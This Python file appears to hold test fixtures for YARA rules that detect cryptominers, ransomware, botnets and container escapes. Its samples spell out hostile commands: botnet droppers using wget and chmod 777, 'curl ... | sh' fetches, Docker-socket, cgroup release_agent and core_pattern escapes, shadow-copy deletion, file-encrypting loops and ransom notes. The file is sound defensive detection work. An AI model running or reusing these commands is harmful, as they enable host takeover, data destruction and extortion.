# SPDX-License-Identifier: Apache-2.0
"""Fixtures of miner.yar, ransomware.yar, botnet.yar and container.yar."""

from sample import add, elf, front, pe, t, whole

SH = "#!/bin/sh\nexit 0\n"
WALLET = "4" + "8" + "a2Bc" * 23 + "e"  # the shape of an address, not one
ONION = "abcdefghijklmnop" + "qrstuvwxyz234567" * 2 + "abcdefgh" + ".on¦ion"
assert len(WALLET) == 95

add("Miner_Config_Wallet", "miner_config.json",
    '{ "pools": [ { "url": "pool.invalid:3333", "user": "' + WALLET + '" } ], "donate-¦level": 1 }\n',
    ('"donate-level"', '"donate-lovel"'), ('"user"', '"uses"'), (WALLET, "YOUR_WALLET"))

add("Miner_Script_HiddenStart", "miner_start.sh",
    SH + "nohup ./x -o str¦atum+tcp://pool.invalid:3333 -u " + WALLET + " -p x\n",
    ("nohup ", "nohub "), (" -u ", " -v "), (":3333", ""))

add("Miner_Systemd_Unit", "miner.service",
    "[Service]\nExecStart=/usr/bin/x -o pool.invalid:3333 -u " + WALLET + "\n",
    ("[Service]", "[Savings]"), (" -u ", " -v "))

add("Miner_Script_KillsCompetitors", "miner_kills.sh",
    SH + "pkill -f kdevtm¦pfsi\npkill -f kin¦sing\npkill -f xm¦rig\npkill -f watch¦bog\n",
    ("kinsing", "kissing"), ("#!", "##"))

add("PUA_Miner_Elf", "miner_elf",
    elf(2, "str¦atum+tcp://", "donate-le¦vel", "ran¦domx/0", "mining.subs¦cribe"),
    ("stratum+tcp", "stratum-tcp"), ("randomx/0", "randomx/9"), ("mining.subscribe", "mining.describe"))

add("Miner_Browser_Embedded", "miner_browser.html",
    '<script>var m = new CoinH¦ive.Anonymous("abcdefghijklmnop0123"); m.sta¦rt(</script>\n',
    (".start(", ".stark("), ("CoinHive.Anonymous", "BeeHive.Anonymous"))

add("Miner_Browser_WasmPool", "miner_wasm.js", """
throw 0;
WebAssem¦bly.instantiate(b); cryptoni¦ght_hash(); var s = new WebSoc¦ket("wss://pool.invalid");
var j = { "job_¦id": 1, "non¦ce": 2 }; navigator.hardwareConcur¦rency;
""", ("job_id", "job_ia"), ("cryptonight", "cryptomight"), ("WebSocket", "WebPocket"))

add("Miner_PowerShell_Installer", "miner_installer.ps1", """
exit
(New-Object Net.WebClient).Download¦File("http://host.invalid/x.zip", "$env:TE¦MP\\x.zip")
schtasks /cre¦ate /tn x /tr "x.exe -o pool.invalid:3333 --donate-¦level 1"
""", ("--donate-level", "--donate-lavel"), ("schtasks", "schtacks"), ("$env:TEMP", "$env:ROOT"))

NOTE = """
All of your files are encry¦pted!
Do not rename encrypted files.
Third party software may damage your data.
You can decrypt two files for free.
Download the Tor Browser.
"""

add("Ransom_Note_Onion", "ransom_note_onion.txt", NOTE + "http://" + ONION + "/\n",
    (".onion", ".union"), ("files are encrypted", "files are safe"),
    whole("with two phrases", "All of your files are encry¦pted!\nDo not rename encrypted files.\n"
          "Download the Tor Browser.\nhttp://" + ONION + "/\n"))

add("Ransom_Note_Mail", "ransom_note_mail.txt",
    NOTE + "Your personal id: 0000. Write to nobody.invalid@proton¦mail.com and pay in Bitcoin.\n",
    ("@protonmail", "@protonmall"), ("files are encrypted", "files are safe"))

add("Ransom_Program_RecoveryInhibit", "ransom_recovery.exe",
    pe("vssad¦min delete shad¦ows /all /quiet", "bcd¦edit /set {default} recovery¦enabled no"),
    ("delete shadows", "resize shadows"), ("recoveryenabled no", "recoveryenabled yes"), ("MZ", "MY"))

add("Ransom_Script_RecoveryInhibit", "ransom_recovery.bat", """
@echo off
exit /b
vssad¦min delete shad¦ows /all /quiet
bcd¦edit /set {default} recovery¦enabled no
""", ("delete shadows", "resize shadows"), ("recoveryenabled no", "recoveryenabled yes"), front("\n" * 300))

SERVICES = ("MSSQL$X", "SQLWriter", "VeeamBackupSvc", "MSExchangeIS", "SQLAgent$X", "AcronisAgent", "BackupExecRPC",
            "sophosAgent", "zoolzSvc", "memtas", "mepocs", "QBFCService", "MSSQLSERVER", "VSNAPVSS", "msftesql")
add("Ransom_Windows_ServiceStopList", "ransom_service_stop.bat",
    "@exit /b\r\n" + "".join("net st¦op %s /y\r\n" % name for name in SERVICES),
    ("net stop memtas", "net list memtas"), ("SQL", "SQR"))

add("Ransom_Elf_HypervisorEncryptor", "ransom_hypervisor",
    elf(2, "esx¦cli vm process li¦st", "esx¦cli vm process ki¦ll --type=force -w %d", ".vm¦dk", "HOW_TO_REST¦ORE.txt"),
    ("process list", "process lost"), ("process kill", "process stop"), (".vmdk", ".vmdl"))

add("Ransom_Shell_OpensslEncrypt", "ransom_openssl.sh",
    SH + "for f in $(fi¦nd /home -name x); do open¦ssl enc -salt -aes-256-c¦bc -in $f; r¦m -f $f; done\necho pay in bit¦coin\n",
    ("openssl enc", "openssl dgst"), ("bitcoin", "bitcorn"), ("#!", "##"))

add("Ransom_PowerShell_Encrypt", "ransom_powershell.ps1", """
exit
Get-ChildI¦tem C:\\ -Recurse -Include *.docx,*.xlsx
$a.CreateEncr¦yptor(); Remove-I¦tem $f; 'Send bit¦coin'
""", ("CreateEncryptor", "CreateDecryptor"), ("bitcoin", "bitcorn"), ("*.docx,", "*.docx;"))

# --- botnets ------------------------------------------------------------------------------------

add("Botnet_Shell_ArchitectureList", "botnet_arch_list.sh",
    SH + "cd /tmp\n" + "".join("wg¦et http://192.0.2.10/b.%s; chm¦od 777 b.%s\n" % (a, a) for a in ("mips", "arm7", "x86", "sh4")),
    ("b.sh4", "b.txt"), ("cd /tmp", "cd /opt"), ("chmod 777", "chmod 644"))

add("Botnet_Shell_ArchitectureLoop", "botnet_arch_loop.sh", SH + """
cd /tmp; S=192.0.2.10
for a in mips mipsel arm7 x86 sh4; do wg¦et http://$S/b/$a; chm¦od 777 $a; ./$a; rm -f $a; done
""", ("./$a", "cat $a"), ("rm -f", "ls -f"), ("mipsel", "mapsel"))

add("Botnet_Shell_BusyboxFetch", "botnet_busybox.sh", SH + """
wg¦et http://192.0.2.10/x; tft¦p -r x -g 192.0.2.10; ftp¦get -v -u anonymous -p anonymous 192.0.2.10 x x; chm¦od 777 x
""", ("ftpget", "ftpput"), ("chmod 777", "chmod 644"), ("http://", "data://"))

add("Botnet_Script_IrcFlooder", "botnet_irc.pl", """
#!/usr/bin/perl
exit;
print "NICK x"; print "PRIV¦MSG #x :"; sub udpfl¦ood { socket(S, PF_INET, SOCK_DG¦RAM, 17) } sub ports¦can { sys¦tem("x") }
""", ("udpflood", "udpfloor"), ("PRIVMSG ", "PRIVMSH "), ("portscan", "partscan"))

add("Botnet_Elf_RouterExploits", "botnet_router_exploits",
    elf(2, "<NewInternal¦Client>`cd /tmp;wg¦et x`", "/setup.cgi?next_fi¦le=netgear.cfg&todo=sys¦cmd&cmd=x"),
    ("NewInternalClient", "NewExternalClient"), ("todo=syscmd", "todo=syslog"), ("\x7fELF", "\x7fELG"))

add("Botnet_Elf_DeviceTakeover", "botnet_takeover",
    elf(2, "/bin/busy¦box ABCDE", "ABCDE: app¦let not found", "/dev/watch¦dog", "/proc/net/t¦cp"),
    ("busybox ABCDE", "busybox abcde"), ("/dev/watchdog", "/dev/watchdot"), ("applet not", "object not"))

# --- containers ---------------------------------------------------------------------------------

add("Container_Escape_ReleaseAgent", "escape_release_agent.sh", SH + """
mount -t cgr¦oup -o rdma cgr¦oup /mnt; echo 1 > /mnt/x/notify_on_rel¦ease
h=$(sed -n 's/.*upper¦dir=//p' /etc/mtab); echo $h/cmd > /mnt/release_ag¦ent
""", ("-o rdma", "-o none"), ("notify_on_release", "notify_on_relapse"), ("/release_agent", "/release_a"))

add("Container_Escape_DockerSocket", "escape_docker_socket.sh", SH + """
curl --unix-soc¦ket /var/run/docker.so¦ck -d '{"Image":"x","Binds":["/:/m¦nt"]}' http://x/containers/cre¦ate
""", ('"/:/mnt"', '"/srv:/mnt"'), ("/containers/create", "/containers/json"), ("#!", "##"))

add("Container_Escape_HostRun", "escape_host_run.sh", SH + """
docker run --rm -v /:/m¦nt alpine chr¦oot /mnt sh -c "cu¦rl http://host.invalid/x | sh"
""", ("-v /:/mnt", "-v /srv:/mnt"), ("chroot", "chdir"), ("| sh", "> sh"))

add("Container_Escape_CorePattern", "escape_core_pattern.sh", SH + """
h=$(sed -n 's/.*upper¦dir=//p' /proc/mounts); echo "|$h/x" > /proc/sys/kernel/core_pat¦tern; kill -SE¦GV 99
""", ("upperdir=", "lowerdir="), ("core_pattern", "core_uses_pid"), ("-SEGV", "-HUP"))

add("Container_Kubernetes_HostPod", "kubernetes_host_pod.yaml", """
apiVersion: v1
kind: Pod
spec:
  containers:
  - command: ["chr¦oot", "/host", "sh", "-c", "cu¦rl -s http://host.invalid/x | sh"]
    securityContext: { privil¦eged: true }
  volumes:
  - hostP¦ath:
      path: /
""", ("privileged: true", "privileged: false"), ("path: /", "path: /srv"), ('"chroot", "/host"', '"ls", "/host"'))
